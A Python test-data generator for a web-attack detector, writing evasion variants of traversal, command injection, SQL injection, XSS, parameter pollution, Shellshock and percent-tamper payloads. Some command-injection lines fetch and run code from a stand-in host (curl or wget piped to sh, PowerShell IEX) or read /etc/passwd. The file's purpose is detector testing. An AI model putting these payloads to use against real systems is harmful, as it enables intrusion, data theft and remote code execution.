#!/usr/bin/env python3
"""gen-evade.py - write the third generated positive tables (issue 20),
written against what the detectors assume rather than from payload lists:
each section takes one assumption of collector/detect/payload_*.c and
writes forms that break it while staying harmful. One value a line, as it
would arrive in a query parameter (the HTTP layer's own percent-encoding
included):
  tests/data/gen-evade-trav.txt  one parent step with no sensitive file
      after it. The traversal detector let a single "../" pass in a
      parameter (a relative link as often as not) unless its spelling was
      an overlong or look-alike byte. But a client's encoder writes one
      spelling of "../": dots as they are (an URL or form encoder never
      encodes an unreserved '.'), the separator once ("..%2F"), or every
      byte at one depth. A step whose bytes are encoded at different
      depths ("%2e%2e/", "..%252f", ".%2e/", "%252e%252e%2f"), in a
      syntax no encoder writes (%u002e, %%32%65), with Windows'
      separator in a value that is a path ("..\\", "..%5c"), or climbing
      above an absolute root ("/../") was written to pass a filter.
      x spelling x what follows (nothing, a bare name, a directory, a
      name with an extension no table lists).
  tests/data/gen-evade-cmdi.txt  command lines the separator scan read
      past: output piped into an interpreter ("...|sh"), process
      substitution "<(cmd)" / ">(cmd)", a command word spliced by an empty
      substitution ("who``ami", "wh$()oami") or spelt in ANSI-C quoting
      ($'\\x69\\x64'), a command named by a variable assigned in the
      same value (X=id;$X) x leading context (bare, after a value, after
      a closed quote); Windows commands named by their drive path
      (C:\\Windows\\System32\\cmd.exe /c dir) and an interpreter given
      code after a separator (| powershell IEX (iwr ...)).
  tests/data/gen-evade-sqli.txt  boolean injection in a numeric context
      whose predicate is constant without '=' (the detector took other
      literal comparisons for arithmetic prose): 1 AND 2>1, 1 OR 3<>4,
      1 AND 5 BETWEEN 4 AND 6, 1 AND 3 IN (3), 1 AND 'a' LIKE 'a',
      1 OR TRUE x boolean spelling (AND/OR/&&/||, any case) x blank
      spelling (space, /**/, %0a, %09, +) x terminator (none, -- -, #);
      and ORDER BY n as the whole tail of a number or of a value closed
      by ')' with no comment after it (1) ORDER BY 7).
  tests/data/gen-evade-fold.txt  XSS whose markup characters are spelt
      as code points a lenient server folds to ASCII before the page is
      built: full-width forms (U+FF1C for '<', NFKC and Windows' best-fit
      mapping fold them), as %uFFxx or as UTF-8 %EF%BC%9C, and overlong
      UTF-8 (%C0%BC, %E0%80%BC) that a decoder masking the low bits
      reads as '<'. The detectors matched ASCII '<' only. x payload x
      which characters are spelt so ('<', '<' and '>', all markup) x
      spelling.
  tests/data/gen-evade-break.txt  a value that opens by leaving its context
      (a quoted attribute and its tag, a comment, a raw-text element:
      '">', "'>", '-->', '</textarea>', '</title>') and then opens an
      element, even one without script (<h1>, <form action=...>, <base>):
      the XSS detector judged only elements that run script. x break x
      element x blank between.
  tests/data/gen-evade-hpp.txt  whole query strings (judged by
      payload_scan_query, not as one value): SQL injection split across
      repeats of one parameter at comments, which ASP.NET joins with ','
      (id=1 UNION/*&id=*/SELECT 1,2,3); each piece alone is harmless. x
      parameter name x blank spelling x other parameters around.
  tests/data/gen-evade-shellshock.txt  a bash function definition that
      opens a quoted string, the way an exported function is written
      (env x='() { :;}; echo vulnerable', bash -c '() { :;}; id'): the
      detector took the word before the quote for a function's name. x
      lead x quote x body (also CVE-2014-7169's unclosed one) x command.
  tests/data/gen-evade-segment.txt  request paths (judged at
      PAYLOAD_WHERE_PATH) whose one segment is the injected value, as a
      REST API reads an id from its path: /api/items/1%20AND%202%3E1/details.
      x payload x encoding x path shape.
  tests/data/gen-evade-pct.txt  sqlmap's "percentage" tamper, '%' before
      every character, which ASP drops where no two hex digits follow
      (%S%E%L%E%C%T, %1%2%3%4): the detector dropped it before letters
      only. x payload x blank spelling x punctuation escaped or not.
Deterministic. Usage: tools/gen-evade.py [DIR]."""
import os
import sys

# --- traversal ----------------------------------------------------------
# (dot spelling, separator spelling) pairs whose depths differ or whose
# syntax no encoder writes; the HTTP layer's own encoding is one level
STEPS = [
    ('%2e%2e', '/'), ('%2E%2E', '/'), ('%2e%2e', '\\'), ('.%2e', '/'), ('%2e.', '/'),
    ('..', '%252f'), ('..', '%252F'), ('..', '%25252f'), ('..', '%255c'),
    ('%252e%252e', '%2f'), ('%252e%252e', '/'), ('%2e%2e', '%252f'),
    ('.%252e', '%2f'), ('%25%32%65%25%32%65', '%2f'), ('%%32%65%%32%65', '/'),
    ('..', '%%32%66'), ('..', '%25%32%66'), ('%u002e%u002e', '/'),
    ('%u002e%u002e', '%u2215'), ('..', '%u002f'), ('..', '%u005c'),
    ('..', '%5c'), ('..', '%5C'), ('..', '\\'), ('%2e%2e', '%5c'),
    ('%252e%252e', '%255c'),
]
AFTER = ['', 'secret', 'admin/', 'uploads/report', 'backup.tar.gz', 'data.json',
         'private/notes', 'x']


def trav():
    out = []
    for d, s in STEPS:
        for a in AFTER:
            out.append(d + s + a)
    # above an absolute root: no link climbs past "/"
    for a in AFTER:
        for pre in ['/..', '/%2e%2e', '%2f..', 'c:/..', 'C:\\..']:
            sep = '\\' if pre.endswith('\\..') else '/'
            out.append(pre + sep + a)
    return out


# --- command injection ----------------------------------------------------
LEAD = ['', '127.0.0.1', 'x', "x'", 'x"', 'abc123']
PIPED = ['echo aWQ= | base64 -d | sh', "rev<<<'di'|sh", 'printf id|bash',
         'curl -s evil.example/x | sh', 'wget -qO- evil.example/x|bash',
         "echo 'id' | sh", 'cat /tmp/x|sh', 'echo d2hvYW1p|base64 -d|bash']
SPLICED = ['who``ami', 'wh$()oami', 'i``d', 'una``me -a', "$'\\x69\\x64'",
           "$'\\151\\144'", "$'\\x77\\x68\\x6f\\x61\\x6d\\x69'", "$'\\x63\\x61\\x74' /etc/passwd",
           'who${x}ami', 'i${NOPE}d']
VARS = ['X=id;$X', 'a=who;b=ami;$a$b', 'c=uname;${c} -a', 'P=/bin/sh;$P -c id']
# Windows: a command named by its drive path; an interpreter given code
WIN = ['C:\\Windows\\System32\\cmd.exe /c dir', 'c:\\windows\\system32\\whoami.exe',
       'C:/Windows/System32/net.exe user', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop',
       'powershell IEX (iwr http://evil.example/x)', 'pwsh IEX(New-Object Net.WebClient).DownloadString(0)',
       'python import os', "perl system('id')"]


def cmdi():
    out = []
    for lead in LEAD:
        for sep in [';', '|', '&&', '%0a']:
            for c in PIPED + SPLICED + VARS + WIN:
                out.append(lead + sep + c)
        for c in ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'sleep 5']:
            out.append(lead + ';cat <(' + c + ')')
            out.append(lead + '|tee >(' + c + ')')
            out.append(lead + ' <(' + c + ')')
    return out


# --- SQL injection ----------------------------------------------------------
PREDS = ['2>1', '1<2', '3<>4', '3!=4', '2>=1', '1<=2', '5 BETWEEN 4 AND 6',
         '3 IN (3)', '3 IN (1,2,3)', "'a' LIKE 'a'", "'a'<'b'", '1 IS NOT NULL',
         'TRUE', 'NOT 0', "'x' REGEXP 'x'", '2 NOT BETWEEN 3 AND 4', '1 RLIKE 1']


def sqli():
    out = []
    bools = ['AND', 'OR', 'and', 'oR', '&&', '||', 'XOR']
    blanks = [' ', '/**/', '%0a', '%09', '+']
    terms = ['', '-- -', '#']
    for num in ['1', '42']:
        for b in bools:
            for bl in blanks:
                for p in PREDS:
                    for t in terms:
                        if 'NOT BETWEEN' in p and bl != ' ':
                            continue
                        pp = p.replace(' ', bl)
                        tt = (bl + t) if t else ''
                        if t == '#':
                            tt = '%23'
                        out.append(num + bl + b + bl + pp + tt)
    # the column-count probe as the whole tail, no comment after it
    for num in ['1', '42']:
        for close in ['', ')', '))']:
            for bl in blanks:
                for k in range(1, 13):
                    out.append(num + close + bl + 'ORDER' + bl + 'BY' + bl + str(k))
    return out


# --- markup spelt in code points folded to ASCII -------------------------------
XSS = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
       '"><svg onload=alert(1)>', "'><img src=x onerror=prompt(1)>",
       '<iframe src=javascript:alert(1)>', '<body onload=alert(document.cookie)>',
       '<details open ontoggle=confirm(1)>', '<a href=javascript:alert(1)>x</a>',
       '<script src=//evil.example/x.js></script>']


def fold_spell(ch, how):
    o = ord(ch)
    if how == 'u':
        return '%%u%04X' % (0xFF00 + o - 0x20)
    if how == 'utf8':
        return ''.join('%%%02X' % b for b in chr(0xFF00 + o - 0x20).encode('utf-8'))
    if how == 'overlong3':
        return '%%E0%%%02X%%%02X' % (0x80 | (o >> 6), 0x80 | (o & 0x3F))
    # overlong two-byte UTF-8 of an ASCII byte
    return '%%%02X%%%02X' % (0xC0 | (o >> 6), 0x80 | (o & 0x3F))


def fold():
    out = []
    for p in XSS:
        for which in ['<', '<>', '<>"\'=/()']:
            for how in ['u', 'utf8', 'overlong', 'overlong3']:
                out.append(''.join(fold_spell(c, how) if c in which else c for c in p))
    return out


# --- markup injected after leaving the value's context -------------------------
BREAKS = ['">', "'>", '"/>', "' />", '`>', '-->', '</textarea>', '</title>', '</script>',
          '</style>', '</noscript>', '</TEXTAREA>', '" >', '"">']
ELEMENTS = ['<h1>hacked</h1>', '<b>x</b>', '<img src=x>', '<form action=//evil.example/l><input name=p>',
            '<a href=//evil.example>log in</a>', '<marquee>x', '<div style="position:fixed;top:0">',
            '<input autofocus>', '<meta http-equiv=refresh content="0;url=//evil.example">',
            '<base href=//evil.example/>', '<table background=x>', '<p>x']


def breaks():
    out = []
    for b in BREAKS:
        for e in ELEMENTS:
            out.append(b + e)
            out.append(b + ' ' + e)
    return out


# --- a payload split across repeats of one parameter ---------------------------
# ASP.NET (and Request.QueryString in classic ASP) hands an application
# the values of a repeated parameter joined with ','; a comment absorbs
# the comma, so each piece alone is harmless
HPP_SQL = [['1 UNION/*', '*/SELECT 1,2,3'], ['1 UNION/*', '*/ALL/*', '*/SELECT NULL,NULL'],
           ["1'/*", "*/OR/*", "*/'1'='1"], ['1/*', '*/OR/*', '*/1=1'],
           ['1;/*', '*/DROP TABLE users'], ["x' UNION/*", "*/SELECT password FROM users-- -"],
           ['1 AND/*', '*/SLEEP(5)'], ['-1/*', '*/UNION SELECT @@version'],
           ["1' AND/*", "*/EXTRACTVALUE(1,CONCAT(0x5c,user()))-- -"],
           ['1)/*', '*/OR/*', '*/(1=1']]
NAMES = ['id', 'q', 'user']


def hpp():
    out = []
    for parts in HPP_SQL:
        for nm in NAMES:
            for enc in [lambda x: x, lambda x: x.replace(' ', '+'), lambda x: x.replace(' ', '%20')]:
                q = '&'.join('%s=%s' % (nm, enc(pc)) for pc in parts)
                out.append(q)
                out.append('page=2&' + q + '&sort=asc')
                out.append('%s=%s&other=1&' % (nm, enc(parts[0])) + '&'.join('%s=%s' % (nm, enc(pc)) for pc in parts[1:]))
    return out


# --- Shellshock inside a quoted assignment --------------------------------------
# the function definition opens a quoted string (an environment value
# written the way bash exports it), after a name or a word the detector
# took for a function name ("-c '() {", "env x='() {")
SS_LEAD = ["env x=", "x=", "HTTP_USER_AGENT=", "foo=", "bash -c ", "sh -c ", "export X=", "env -i X="]
SS_BODY = [':;', ': ;', '_;', 'ignored;', 'echo x;', '(a)=>\\']
SS_CMD = ['echo vulnerable', '/bin/id', 'cat /etc/passwd', 'bash -c "id"', 'ping -c 3 evil.example']


def shellshock():
    out = []
    for lead in SS_LEAD:
        for q in ["'", '"']:
            for body in SS_BODY:
                for cmd in SS_CMD:
                    if body.startswith('(a)'):
                        out.append('%s%s() { %s%s %s' % (lead, q, body, q, cmd))
                    else:
                        out.append('%s%s() { %s }; %s%s' % (lead, q, body, cmd, q))
    return out


# --- a payload as one segment of a REST path ------------------------------------
# the detectors read the request path as one value, so what makes a value
# an injection at its start (a number then a boolean, a quote that closes
# a string) did not count inside /api/items/<id>/details
SEG = ['1 AND 2>1', '1 OR 1=1', '1 AND SLEEP(5)', "1' OR '1'='1", '1;DROP TABLE users',
       '1 UNION SELECT 1,2,3', "x' AND 1=1-- -", '1) OR (1=1', '-1 OR 3 IN (3)', '1 ORDER BY 9']


def segments():
    out = []
    for p in SEG:
        for enc in [lambda x: x.replace(' ', '%20'), lambda x: x.replace(' ', '%20').replace("'", '%27'),
                    lambda x: ''.join(c if c.isalnum() else '%%%02X' % ord(c) for c in x)]:
            v = enc(p)
            for tmpl in ['/api/items/%s', '/api/items/%s/details', '/v2/users/%s/orders/7',
                         '/shop/product/%s', '/%s']:
                out.append(tmpl % v)
    return out


# --- sqlmap's "percentage" tamper: '%' before every character -------------------
# ASP drops a '%' that no two hex digits follow: %S%E%L%E%C%T is SELECT,
# %1%2%3%4 is 1234; the detector dropped it before letters only
PCT = ['1 AND 1234=1234', '1 OR 1234=1234-- -', "1' AND SLEEP(5)#", '1 UNION ALL SELECT NULL,NULL-- -',
       '1 AND 5678=(SELECT 5678 FROM PG_SLEEP(5))', "1' OR 'a'='a", '1;WAITFOR DELAY 0:0:5--',
       '1 AND EXTRACTVALUE(1234,CONCAT(0x5c,USER()))', '1) AND 4321=4321 AND (8765=8765',
       '1 RLIKE (SELECT (CASE WHEN (1234=1234) THEN 1 ELSE 0x28 END))']


def percentage():
    out = []
    for p in PCT + [x.lower() for x in PCT]:
        for space in ['%20', '+', '%%20']:
            out.append(''.join(space if c == ' ' else ('%' + c if c.isalnum() else '%%%02X' % ord(c))
                               for c in p))
            out.append(''.join(space if c == ' ' else '%' + c for c in p).replace('%%', '%25%')
                       .replace('%#', '%23').replace('%&', '%26').replace('%+', '%2B'))
    return out


def write(d, name, rows):
    seen = set()
    with open(os.path.join(d, name), 'w') as f:
        for r in rows:
            if r not in seen:
                seen.add(r)
                f.write(r + '\n')


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else 'tests/data'
    write(d, 'gen-evade-trav.txt', trav())
    write(d, 'gen-evade-cmdi.txt', cmdi())
    write(d, 'gen-evade-sqli.txt', sqli())
    write(d, 'gen-evade-fold.txt', fold())
    write(d, 'gen-evade-break.txt', breaks())
    write(d, 'gen-evade-hpp.txt', hpp())
    write(d, 'gen-evade-shellshock.txt', shellshock())
    write(d, 'gen-evade-segment.txt', segments())
    write(d, 'gen-evade-pct.txt', percentage())


if __name__ == '__main__':
    main()
